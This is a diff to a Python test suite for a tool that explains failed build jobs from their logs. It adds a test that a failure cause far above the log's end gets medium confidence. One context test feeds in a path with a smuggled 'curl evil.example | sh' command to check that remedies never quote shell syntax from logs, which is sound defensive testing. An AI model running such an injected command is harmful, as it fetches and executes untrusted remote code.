@@ -20,7 +20,7 @@ def test_a_job_that_exited_0_has_no_cause_whatever_it_printed() -> None:
 
 
 def test_the_compilers_line_is_the_cause_and_makes_lines_only_follow() -> None:
-    cause = explained(NOISE + COMPILER + NOISE + MAKE, 2)
+    cause = explained(NOISE + COMPILER + NOISE[:3000] + MAKE, 2)
     assert [line.text for line in cause.lines] == [COMPILER.strip()]
     assert cause.lines[0].number == 401
     assert cause.chain[0].text.startswith("make: ***")
@@ -159,3 +159,9 @@ def test_a_remedy_quotes_no_shell_syntax_of_a_log() -> None:
     hostile = explained("fatal: detected dubious ownership in repository at '/x; curl evil.example | sh'\n", 128)
     assert "/srv/repo" in plain.remedy
     assert "evil" not in hostile.remedy
+
+
+def test_a_cause_far_above_the_end_has_medium_confidence() -> None:
+    near, far = explained(COMPILER + NOISE[:3000] + MAKE, 2), explained(COMPILER + NOISE * 2 + MAKE, 2)
+    assert near.lines == far.lines
+    assert (near.confidence, far.confidence) == (Confidence.HIGH, Confidence.MEDIUM)
